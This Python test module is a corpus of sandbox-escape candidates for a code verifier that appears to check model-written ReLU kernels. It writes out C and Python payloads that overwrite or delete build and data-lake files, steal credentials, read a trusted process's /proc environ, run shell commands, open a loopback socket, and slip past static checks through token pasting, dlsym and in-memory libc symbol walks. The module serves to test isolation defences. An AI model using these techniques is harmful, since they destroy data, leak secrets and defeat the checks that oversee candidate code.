"""The sandbox escape corpus: candidates that try to write, delete or read what lies outside their
own directory (the benchmark build, the memory lake, the compile cache, another verification, the
user's credentials, this project's packages, other processes' /proc entries, the network).

Each case is a complete candidate (ModelNew over a load_c ReLU) whose attack runs at import time
(or at library load) with ``{{PLACEHOLDER}}`` paths filled in by the test. ``static`` names the
first tier expected to refuse it with the full policy ("build": the checks after preprocessing
and on symbols, "tokens": the checks before preprocessing), or "" where no static check can (the
run-time isolation alone must hold). Read attacks raise an exception holding what they read, so
a successful read would put the secret marker into the verdict.
"""

from __future__ import annotations

from dataclasses import dataclass

RELU = r'''
#define CAT(a, b) a##b
extern "C" void relu(const float* x, float* y, long n) {
    for (long i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
'''
TEMPLATE = '''import torch
import torch.nn as nn
from verifier.cpu_native import load_c

SOURCE = r"""
{c_code}
"""

lib = load_c(SOURCE, {functions})
{module_code}


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        lib.relu(x, y, x.numel())
        return y
'''
LEAK_BUFFER = '''
_buf = torch.zeros(65536, dtype=torch.uint8)
lib.attack(_buf, 65536)
_text = bytes(_buf.tolist()).rstrip(b"\\0").decode("latin-1")
if _text:
    raise RuntimeError("LEAKED: " + _text)
'''
SLURP = r'''
extern "C" int CAT(op,en)(const char*, int, ...);
extern "C" long CAT(re,ad)(int, void*, unsigned long);
static long slurp(const char* path, unsigned char* buf, long cap) {
    int fd = CAT(op,en)(path, 0);
    if (fd < 0) return 0;
    long n = CAT(re,ad)(fd, buf, cap - 1);
    for (long i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
    return n > 0 ? n : 0;
}
'''
WRITE_DECLS = r'''
extern "C" int CAT(op,en)(const char*, int, ...);
extern "C" long CAT(wri,te)(int, const void*, unsigned long);
'''
LIBC_WALK = r'''
#include <cstdint>
#include <cstring>
#include <elf.h>
// finds a libc function by name in libc's own symbol table, starting from memcpy's address:
// no forbidden name, symbol or instruction appears anywhere in this source or object
static void* libc_function(const char* want) {
    uintptr_t base = (uintptr_t)&memcpy & ~(uintptr_t)4095;
    while (memcmp((const void*)base, "\x7f" "ELF", 4) != 0) base -= 4096;
    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
    const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
    const Elf64_Dyn* dyn = 0;
    for (int i = 0; i < eh->e_phnum; ++i) if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(base + ph[i].p_vaddr);
    const Elf64_Sym* sym = 0; const char* str = 0;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym*)at;
        if (dyn->d_tag == DT_STRTAB) str = (const char*)at;
    }
    for (const Elf64_Sym* s = sym; s && (const char*)s < str; ++s)
        if (s->st_value && strcmp(str + s->st_name, want) == 0) return (void*)(base + s->st_value);
    return 0;
}
'''


@dataclass(frozen=True)
class EscapeCase:
    name: str
    covers: str
    c_code: str  # the attack's C (RELU is prepended)
    functions: str  # load_c signatures of the attack functions, e.g. '"attack": ""'
    module_code: str  # Python run at import after load_c
    static: str = ""  # "build" | "tokens" | "" (see the module doc)

    def source(self, fill: dict[str, str]) -> str:
        functions = '{"relu": "const float*, float*, int64"' + (", " + self.functions if self.functions else "") + "}"
        text = TEMPLATE.format(c_code=RELU + self.c_code, functions=functions, module_code=self.module_code)
        for key, value in fill.items():
            text = text.replace("{{" + key + "}}", value)
        return text


def native(name: str, covers: str, c_code: str, static: str = "build", leak: bool = False) -> EscapeCase:
    if leak:
        return EscapeCase(name, covers, c_code, '"attack": "uint8*, int64"', LEAK_BUFFER, static)
    return EscapeCase(name, covers, c_code, '"attack": ""', "lib.attack()\n", static)


def python(name: str, covers: str, module_code: str, static: str = "") -> EscapeCase:
    return EscapeCase(name, covers, "", "", module_code, static)


CASES = (
    native("c_paste_fopen_build_manifest", "token pasting to fopen: overwrite the build's manifest", r'''
extern "C" { struct F; F* CAT(fop,en)(const char*, const char*); int CAT(fpu,ts)(const char*, F*); int CAT(fclo,se)(F*); }
extern "C" void attack() { F* f = CAT(fop,en)("{{BUILD_MANIFEST}}", "w"); if (f) { CAT(fpu,ts)("pwned", f); CAT(fclo,se)(f); } }
'''),
    native("c_paste_open_lake", "token pasting to open/write: truncate a lake Parquet file", WRITE_DECLS + r'''
extern "C" void attack() { int fd = CAT(op,en)("{{LAKE_FILE}}", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_paste_unlink_other_verification", "token pasting to unlink: delete another verification's file", r'''
extern "C" int CAT(unl,ink)(const char*);
extern "C" void attack() { CAT(unl,ink)("{{OTHER_FILE}}"); }
'''),
    native("c_paste_rename_credentials", "token pasting to rename: move the user's credentials away", r'''
extern "C" int CAT(ren,ame)(const char*, const char*);
extern "C" void attack() { CAT(ren,ame)("{{CREDENTIALS}}", "stolen"); }
'''),
    native("c_paste_syscall_cache", "token pasting to syscall: openat+write a cached library of another candidate", r'''
extern "C" long CAT(sys,call)(long, ...);
extern "C" void attack() { long fd = CAT(sys,call)(257, -100, "{{CACHE_LIB}}", 01 | 01000); if (fd >= 0) CAT(sys,call)(1, fd, "pwned", 5); }
'''),
    native("c_asm_through_macro", "inline asm spelled through a macro: raw open/write syscalls on the lake catalog", r'''
#define ASM CAT(__as,m__)
static long raw3(long n, long a, long b, long c) {
    long r; ASM volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r;
}
extern "C" void attack() { long fd = raw3(2, (long)"{{LAKE_CATALOG}}", 01 | 01000, 0); if (fd >= 0) raw3(1, fd, (long)"pwned", 5); }
'''),
    native("c_dlsym_computed_name", "dlsym (pasted) of a name built at run time: unlink the build's problem file", r'''
extern "C" void* CAT(dl,sym)(void*, const char*);
extern "C" void attack() {
    char name[8] = {'u', 'n', 'l', 'i', 'n', 'k', 0};
    int (*fn)(const char*) = (int (*)(const char*))CAT(dl,sym)((void*)0, name);
    if (fn) fn("{{BUILD_PROBLEM}}");
}
'''),
    native("c_libc_symbol_walk", "openat found by walking libc's symbol table in memory: overwrite the build manifest",
           LIBC_WALK + r'''
extern "C" void attack() {
    long (*op)(int, const char*, int, ...) = (long (*)(int, const char*, int, ...))libc_function("openat");
    long (*wr)(long, const void*, unsigned long) = (long (*)(long, const void*, unsigned long))libc_function("write");
    long fd = op && wr ? op(-100, "{{BUILD_MANIFEST}}", 01 | 01000) : -1;
    if (fd >= 0) wr(fd, "pwned", 5);
}
''', static=""),
    native("c_constructor_through_macro", "a load-time constructor spelled through a macro: delete the lake catalog", r'''
#define HOOK __attribute__((CAT(constr,uctor)))
extern "C" int CAT(unl,ink)(const char*);
HOOK static void at_load() { CAT(unl,ink)("{{LAKE_CATALOG}}"); }
extern "C" void attack() {}
'''),
    native("c_init_array_section", "a function pointer placed in .init_array: delete the lake file at load", r'''
extern "C" int CAT(unl,ink)(const char*);
static void at_load() { CAT(unl,ink)("{{LAKE_FILE}}"); }
#define SECTION(s) __attribute__((section(s), used))
SECTION(".init_array") static void (*hook)() = at_load;
extern "C" void attack() {}
'''),
    native("c_computed_include_secret", "a computed #include of the user's credentials (leaks through diagnostics)", r'''
#define SECRET_FILE "{{CREDENTIALS}}"
#include SECRET_FILE
extern "C" void attack() {}
''', static="tokens"),
    native("c_paste_freopen_stdout", "freopen (pasted) of stdout onto a lake file, then printf", r'''
#include <cstdio>
extern "C" void attack() { if (CAT(freo,pen)("{{LAKE_FILE}}", "w", stdout)) { printf("pwned\n"); fflush(stdout); } }
'''),
    native("c_paste_system", "system (pasted): a shell writes a new file in /tmp", r'''
extern "C" int CAT(sys,tem)(const char*);
extern "C" void attack() { CAT(sys,tem)("echo pwned > {{TMP_NEW}}"); }
'''),
    native("c_hardlink_into_private_dir", "hard link of a lake file into the private dir, then write through it",
           WRITE_DECLS + r'''
extern "C" int CAT(li,nk)(const char*, const char*);
extern "C" void attack() { CAT(li,nk)("{{LAKE_FILE}}", "lake_link"); int fd = CAT(op,en)("lake_link", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_symlink_into_private_dir", "symbolic link to the build manifest in the private dir, then write through it",
           WRITE_DECLS + r'''
extern "C" int CAT(syml,ink)(const char*, const char*);
extern "C" void attack() { CAT(syml,ink)("{{BUILD_MANIFEST}}", "manifest_link"); int fd = CAT(op,en)("manifest_link", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_paste_chmod_build_manifest", "chmod (pasted) of the build manifest to 000 (Landlock does not govern metadata)", r'''
extern "C" int CAT(chm,od)(const char*, unsigned);
extern "C" void attack() { CAT(chm,od)("{{BUILD_MANIFEST}}", 0); }
'''),
    native("c_read_parent_cmdline_environ", "read a trusted process's /proc cmdline and environ (its secrets)", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) {
    long n = slurp("/proc/{{PARENT_PID}}/cmdline", buf, cap / 2);
    slurp("/proc/{{PARENT_PID}}/environ", buf + n, cap / 2);
}
''', leak=True),
    native("c_read_other_verification", "read another verification's candidate", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) { slurp("{{OTHER_FILE}}", buf, cap); }
''', leak=True),
    native("c_parent_memory", "open a trusted process's /proc/<pid>/mem (its seed and nonces)", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) { slurp("/proc/{{PARENT_PID}}/maps", buf, cap); }
''', leak=True),
    python("py_torch_save_lake", "import-time torch.save over a lake Parquet file",
           'torch.save({"pwned": 1}, "{{LAKE_FILE}}")\n'),
    python("py_torch_load_other_outputs", "import-time torch.load of another verification's saved outputs",
           'raise RuntimeError("LEAKED: " + str(torch.load("{{OTHER_PICKLE}}")))\n'),
    python("py_torch_from_file_shared", "import-time torch.from_file(shared=True) zeroing the build manifest",
           'torch.from_file("{{BUILD_MANIFEST}}", shared=True, size=16, dtype=torch.uint8).zero_()\n'),
    python("py_numpy_tofile", "import-time numpy tofile over the lake catalog",
           'import numpy\nnumpy.zeros(4).tofile("{{LAKE_CATALOG}}")\n'),
    python("py_numpy_memmap", "import-time numpy memmap (r+) of a file in this project's package",
           'import numpy\n_m = numpy.memmap("{{PROJECT_FILE}}", mode="r+", dtype="uint8")\n_m[:] = 0\n_m.flush()\n'),
    python("py_ctypes_libc_unlink", "ctypes to libc: unlink another verification's file",
           'import ctypes\nctypes.CDLL(None).unlink(b"{{OTHER_FILE}}")\n'),
    python("py_builtins_open_obfuscated", "open() fetched through builtins by a computed name: overwrite a cache manifest",
           'import builtins\nbuiltins.__dict__["op" + "en"]("{{CACHE_MANIFEST}}", "w").write("{}")\n'),
    python("py_os_rename_credentials", "os.rename of the user's credentials into the private dir",
           'import os\nos.rename("{{CREDENTIALS}}", "stolen")\n'),
    python("py_chmod_and_utime_lake", "os.chmod to 000 and os.utime of lake files (metadata, not bytes)",
           'import os\nos.utime("{{LAKE_CATALOG}}", (0, 0))\nos.chmod("{{LAKE_FILE}}", 0)\n'),
    python("py_shutil_rmtree_lake", "shutil.rmtree of the whole lake",
           'import shutil\nshutil.rmtree("{{LAKE_DIR}}")\n'),
    python("py_write_tmp", "a new file in /tmp (outside the private dir)",
           'import pathlib\npathlib.Path("{{TMP_NEW}}").write_text("pwned")\n'),
    python("py_write_dev_shm", "a replay file in /dev/shm",
           'open("/dev/shm/{{SHM_NAME}}", "w").write("pwned")\n'),
    python("py_read_parent_cmdline_environ", "read a trusted process's /proc cmdline and environ",
           '_leak = [open("/proc/{{PARENT_PID}}/" + n, "rb").read().replace(b"\\0", b" ").decode() '
           'for n in ("cmdline", "environ")]\nraise RuntimeError("LEAKED: " + " ".join(_leak))\n'),
    python("py_scan_proc", "list /proc and read every other process's cmdline",
           'import os\n_leak = [open(f"/proc/{p}/cmdline", "rb").read().decode(errors="ignore") for p in os.listdir("/proc") '
           'if p.isdigit() and int(p) != os.getpid()]\nraise RuntimeError("LEAKED: " + " ".join(_leak))\n'),
    python("py_read_other_verification", "list and read another verification's directory",
           'import os\nraise RuntimeError("LEAKED: " + str(os.listdir("{{OTHER_DIR}}")) + open("{{OTHER_FILE}}").read())\n'),
    python("py_read_lake_and_cache", "read the lake and the compile cache (other candidates' code)",
           'import os\nraise RuntimeError("LEAKED: " + open("{{LAKE_SECRET}}").read() + str(os.listdir("{{CACHE_ROOT}}")) '
           '+ open("{{CACHE_SECRET}}").read())\n'),
    python("py_read_credentials_and_verification_root", "read the user's credentials and the verification's own root",
           'import os\nraise RuntimeError("LEAKED: " + str(os.listdir("..")) + open("{{CREDENTIALS}}").read())\n'),
    python("py_os_system", "os.system at import: a shell writes a new file in /tmp",
           'import os\nos.system("echo pwned > {{TMP_NEW}}")\n'),
    python("py_socket_connect", "a TCP connection to a loopback server (exfiltration)",
           'import socket\nsocket.create_connection(("127.0.0.1", {{PORT}}), timeout=2).sendall(b"pwned")\n'),
)
